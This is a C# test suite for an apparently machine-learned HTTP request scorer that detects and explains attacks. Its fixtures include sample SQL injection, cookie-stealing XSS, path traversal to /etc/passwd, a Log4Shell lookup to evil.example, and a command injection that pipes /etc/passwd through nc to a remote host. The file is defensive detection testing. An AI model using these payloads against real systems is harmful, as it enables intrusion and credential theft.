using System.Text;
using Shouldly;
using Weir.Http;
using Weir.Http.Corpus;
using Weir.Http.Corpus.Benign;
using Weir.Models;
using Weir.Tests.Fuzz;
using Xunit;

namespace Weir.Tests.Http;

/// <summary>The whole way from bytes to verdict with a small trained model.</summary>
public sealed class HttpScorerTests
{
    private const string Form = "Content-Type: application/x-www-form-urlencoded\r\n";
    private const string Json = "Content-Type: application/json\r\n";
    private const string Xml = "Content-Type: text/xml\r\n";
    private const string Multipart = "Content-Type: multipart/form-data; boundary=x1\r\n";

    /// <summary>Requests with a place for a value, and what evidence calls the place.</summary>
    private static readonly (string Where, string Target, string Headers, string Body, bool Encode)[] s_places =
    [
        ("query:q", "/find?page=2&q={0}", "", "", true),
        ("path", "/files/{0}", "", "", true),
        ("form:note", "/send", Form, "name=anna&note={0}&age=7", true),
        ("json:$.a.b[1]", "/api", Json, "{\"n\":1,\"a\":{\"b\":[\"x\",\"{0}\"]}}", false),
        ("xml:/r/t", "/soap", Xml, "<r><n>1</n><t><![CDATA[{0}]]></t></r>", false),
        ("multipart:f", "/up", Multipart, "--x1\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{0}\r\n--x1--\r\n", false),
        ("header:referer", "/", "Referer: https://shop.example/?q={0}\r\n", "", true),
        ("header:x-api-version", "/", "X-Api-Version: {0}\r\n", "", false),
        ("cookie:c", "/", "Cookie: sid=abc; c={0}\r\n", "", true),
    ];

    private static readonly (AttackClass Class, string Value)[] s_attacks =
    [
        (AttackClass.Sqli, "1' union select username,password from users-- -"),
        (AttackClass.Xss, "<script>alert(document.cookie)</script>"),
        (AttackClass.Rce, ";cat /etc/passwd|nc 10.0.0.1 4444"),
        (AttackClass.Traversal, "../../../../../../etc/passwd"),
        (AttackClass.Log4shell, "${jndi:ldap://evil.example/a}"),
    ];

    private static readonly string[] s_benign = ["green tea & cake", "The meeting is at 10:30, see you there.", "it's fine (really)", "12,50 EUR", "red; blue; green"];

    private readonly HttpScorer _scorer = SmallModel.Scorer;

    [Fact]
    public void Score_ObviousAttacksInEveryPlace_StandClearlyAboveBenignOnes()
    {
        foreach (var place in s_places)
        {
            double highest = s_benign.Max(value => Logit(_scorer.Score(Request(place, value).View).Score));
            foreach ((AttackClass cls, string value) in s_attacks)
            {
                HttpVerdict verdict = _scorer.Score(Request(place, value).View);
                Logit(verdict.Score).ShouldBeGreaterThan(highest + 1, $"{cls} in {place.Where}");
            }
        }
    }

    [Fact]
    public void Explain_AttackInBasicCredentials_ShowsTheDecodedText()
    {
        // base64 of: x' or 1=1-- :p
        var request = new HttpRequestView { Method = "GET"u8, Target = "/"u8, Headers = "Authorization: Basic eCcgb3IgMT0xLS0gOnA=\r\n"u8 };
        _scorer.Explain(request).ShouldContain(e => e.Where == "header:authorization" && e.Fragment == "x' or 1=1-- :p");
    }

    [Fact]
    public void Explain_AttackInSecondPartOfToken_ShowsThatPart()
    {
        string payload = "{\"sub\":\"1234567890\",\"name\":\"' union select username,password from users-- -\"}";
        string token = string.Join('.', new[] { "{\"alg\":\"HS256\",\"typ\":\"JWT\"}", payload, "no signature, some text" }.Select(part => Convert.ToBase64String(Encoding.ASCII.GetBytes(part)).TrimEnd('=')));

        _scorer.ExplainPayload(Encoding.ASCII.GetBytes(token))[0].Fragment.ShouldBe(payload);
    }

    [Fact]
    public void Explain_AttackThatReadsAlikeInAView_ShowsItAsItWasSent()
    {
        IReadOnlyList<HttpEvidence> evidence = _scorer.ExplainPayload("& type C:\\windows\\win.ini"u8);

        evidence.Count.ShouldBe(1);
        evidence[0].Fragment.ShouldBe("& type C:\\windows\\win.ini");
        evidence[0].Share.ShouldBe(1);
    }

    [Fact]
    public void Explain_AttackThatOnlyAViewShows_ShowsTheView()
        => _scorer.ExplainPayload("1' un/**/ion sel/**/ect username,pass/**/word fr/**/om users-- -"u8)[0].Fragment.ShouldBe("1' union select username,password from users-- -");

    [Fact]
    public void Score_ObviousAttacks_NameTheirClass()
    {
        foreach ((AttackClass cls, string value) in s_attacks)
        {
            HttpVerdict verdict = _scorer.Score(Request(s_places[0], value).View);
            verdict.Class.ShouldBe(cls);
            double own = verdict.Classes[cls];
            for (int c = 0; c < AttackClasses.Count; c++) own.ShouldBeGreaterThanOrEqualTo(verdict.Classes[c]);
        }
    }

    [Fact]
    public void Score_NothingToSee_IsTheLowestScore()
    {
        double nothing = _scorer.Score(default).Score;

        _scorer.Score(new HttpRequestView { Target = "/a/b?c=d"u8, Headers = "Host: shop.example\r\n"u8 }).Score.ShouldBe(nothing);
        _scorer.ScorePayload(default).Score.ShouldBe(nothing);
        foreach (string value in s_benign) nothing.ShouldBeLessThanOrEqualTo(_scorer.ScorePayload(Encoding.UTF8.GetBytes(value)).Score);
        _scorer.Explain(default).ShouldBeEmpty();
    }

    [Fact]
    public void Explain_AttackInEveryPlace_NamesPlaceAndFragment()
    {
        foreach (var place in s_places)
        {
            foreach ((AttackClass cls, string value) in s_attacks)
            {
                IReadOnlyList<HttpEvidence> evidence = _scorer.Explain(Request(place, value).View);
                evidence.ShouldContain(e => e.Where == place.Where && e.Fragment.Contains(value, StringComparison.Ordinal), $"{cls} in {place.Where}: {string.Join(" | ", evidence)}");
                evidence.Sum(e => e.Share).ShouldBeInRange(0, 1.000001);
                evidence.Select(e => e.Share).ShouldBe(evidence.Select(e => e.Share).OrderDescending());
            }
        }
    }

    [Theory]
    [InlineData("some ordinary words of a letter ", 0)]
    [InlineData("some ordinary words of a letter ", 20)]
    [InlineData("some ordinary words of a letter ", 100)]
    [InlineData("несколько обычных слов письма ", 100)]
    [InlineData("line of a table       and      more      ", 100)]
    public void Explain_AttackInLongText_ShowsTheAttack(string prose, int times)
    {
        const string Attack = "<script>alert(document.cookie)</script>";
        string around = string.Concat(Enumerable.Repeat(prose, times));

        IReadOnlyList<HttpEvidence> evidence = _scorer.Explain(new HttpRequestView
        {
            Target = "/api"u8,
            Headers = "Content-Type: application/json\r\n"u8,
            Body = Encoding.UTF8.GetBytes($"{{\"note\":\"{around}{Attack} {around}\"}}"),
        });

        evidence[0].Where.ShouldBe("json:$.note");
        evidence[0].Fragment.ShouldContain("<script>alert(document.");
        evidence[0].Fragment.Length.ShouldBeLessThanOrEqualTo(160);
    }

    [Fact]
    public void Explain_ControlCharactersAndMost_StaysPrintableAndShort()
    {
        IReadOnlyList<HttpEvidence> evidence = _scorer.Explain(Request(s_places[3], "\\u0007\\u001b[31m' or 1=1--\\n\\ud800").View, 1);

        evidence.Count.ShouldBe(1);
        evidence[0].Fragment.ShouldContain("' or 1=1--");
        evidence[0].Fragment.ShouldAllBe(c => !char.IsControl(c));
        Should.Throw<ArgumentOutOfRangeException>(() => _scorer.Explain(default, 0));
    }

    [Fact]
    public void Score_AfterWarmUp_AllocatesNothing()
    {
        RequestBytes[] requests = [.. s_places.SelectMany(place => s_benign.Concat(s_attacks.Select(a => a.Value)), Request)];
        Run();
        Run();

        long before = GC.GetAllocatedBytesForCurrentThread();
        Run();
        long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        allocated.ShouldBe(0);

        void Run()
        {
            foreach (RequestBytes request in requests) _scorer.Score(request.View);
        }
    }

    [Fact]
    public void Score_OnAllThreads_GivesTheSameBits()
    {
        byte[][] values = [.. Values()];
        long[] expected = [.. values.Select(Bits)];

        Parallel.For(0, 4 * values.Length, new ParallelOptions { MaxDegreeOfParallelism = 4 }, i =>
        {
            int at = i * 7 % values.Length;
            Bits(values[at]).ShouldBe(expected[at]);
        });

        long Bits(byte[] value) => BitConverter.DoubleToInt64Bits(_scorer.ScorePayload(value).Score);
    }

    [Fact]
    public void Score_MutatedRequests_NeverThrows()
    {
        IEnumerable<string> seeds = s_places.SelectMany(place => s_attacks, (place, attack) => Request(place, attack.Value).Joined);
        string[] words = ["\0", "%", "%00", "%25", "\\u", "\"", "{", "}", "[", "<", ">", "<!DOCTYPE", "&#", ";", "=", "\r\n", "--x1", "Content-Type: ", "Content-Encoding: gzip\r\n", "' or 1=1", "$ne", "base64,", "PHNjcmlwdD4", "/*", "é", "\u00ff"];
        var mutator = new DictionaryMutator(seeds.Select(Encoding.UTF8.GetBytes), words.Select(Encoding.UTF8.GetBytes), 12, 3000);
        int count = 0;
        FuzzRun.Over(mutator, 20_000, input =>
        {
            int first = Math.Max(0, input.IndexOf((byte)0));
            int second = first + Math.Max(0, input[first..].LastIndexOf((byte)0));
            var request = new HttpRequestView { Method = "POST"u8, Target = input[..first], Headers = input[first..second], Body = input[second..] };
            HttpVerdict verdict = _scorer.Score(request);
            verdict.Score.ShouldBeInRange(0, 1);
            Enum.IsDefined(verdict.Class).ShouldBeTrue();
            if (count++ % 16 == 0)
            {
                _scorer.Score(request).Score.ShouldBe(verdict.Score);
                _scorer.ScorePayload(input).Score.ShouldBeInRange(0, 1);
                foreach (HttpEvidence evidence in _scorer.Explain(request)) evidence.Fragment.Length.ShouldBeLessThanOrEqualTo(160);
            }
        });
    }

    [Fact]
    public void Train_Twice_GivesTheSameBytes() => SmallModel.Train().AsSpan().SequenceEqual(SmallModel.File).ShouldBeTrue();

    [Theory]
    [InlineData("WHOL")]
    [InlineData("WHON")]
    [InlineData("CALB")]
    public void From_ModelWithChangedNumbers_FailsItsSelfTest(string tag)
    {
        byte[] changed = SmallModel.Rewrite(SmallModel.File, (t, bytes) =>
        {
            // Every weight; one bit of the first scale; the curve.
            if (t == tag && tag == "WHOL") bytes.AsSpan().Fill(1);
            else if (t == tag && tag == "WHON") bytes[2] ^= 0x40;
            else if (t == tag) return CalibrationSection.Write([new CalibrationCurve("score", CalibrationKind.Logistic, [1, -3])]).ToArray();
            return bytes;
        });

        Should.Throw<ModelFileException>(() => HttpScorer.From(ModelFile.Open(changed))).Expected.ShouldContain("self-test");
    }

    [Fact]
    public void Load_StreamOfTheFile_NamesTheModelAndScoresAlike()
    {
        using var stream = new MemoryStream(SmallModel.File);

        HttpScorer loaded = HttpScorer.Load(stream);

        loaded.ModelName.ShouldBe("http-0");
        foreach (byte[] value in Values().Take(50)) loaded.ScorePayload(value).Score.ShouldBe(_scorer.ScorePayload(value).Score);
    }

    private static IEnumerable<byte[]> Values()
        => AttackCorpus.Generate(AttackClass.Sqli, 77, 150).Concat(AttackCorpus.Generate(AttackClass.Xss, 77, 150)).Concat(BenignCorpus.Generate(77, 300)).Select(v => Encoding.UTF8.GetBytes(v.Text));

    private static double Logit(double p) => Math.Log(p / (1 - p));

    private static RequestBytes Request((string Where, string Target, string Headers, string Body, bool Encode) place, string value)
    {
        string text = place.Encode ? Uri.EscapeDataString(value) : value;
        return new RequestBytes(Fill(place.Target), Fill(place.Headers), Fill(place.Body));

        string Fill(string form) => form.Replace("{0}", text, StringComparison.Ordinal);
    }

    private sealed class RequestBytes(string target, string headers, string body)
    {
        private readonly byte[] _target = Encoding.UTF8.GetBytes(target), _headers = Encoding.UTF8.GetBytes(headers), _body = Encoding.UTF8.GetBytes(body);

        public string Joined => $"{target}\0{headers}\0{body}";

        public HttpRequestView View => new() { Method = "POST"u8, Target = _target, Headers = _headers, Body = _body };
    }
}
